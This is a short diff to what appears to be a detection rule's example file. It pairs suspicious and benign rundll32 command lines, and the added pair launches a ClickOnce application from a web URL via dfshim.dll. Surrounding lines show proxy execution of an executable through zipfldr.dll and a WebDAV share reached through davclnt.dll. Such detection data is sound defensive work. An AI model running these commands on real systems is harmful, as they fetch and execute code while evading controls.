@@ -86,6 +86,10 @@ export const EXECUTION_EXAMPLES: Examples = inArea({
     String.raw`rundll32 zipfldr.dll,RouteTheCall C:\Users\Public\pl.exe`,
     "rundll32 shell32.dll,Control_RunDLL desk.cpl",
   ),
+  "application-from-web-started": starts(
+    "rundll32.exe dfshim.dll,ShOpenVerbApplication https://intranet.example/a.application",
+    "rundll32.exe dfshim.dll,CleanOnlineAppCache",
+  ),
   "share-of-the-web-opened": starts(
     String.raw`rundll32.exe C:\Windows\System32\davclnt.dll,DavSetCookie files.example http://files.example/team`,
     "rundll32.exe printui.dll,PrintUIEntry /il",
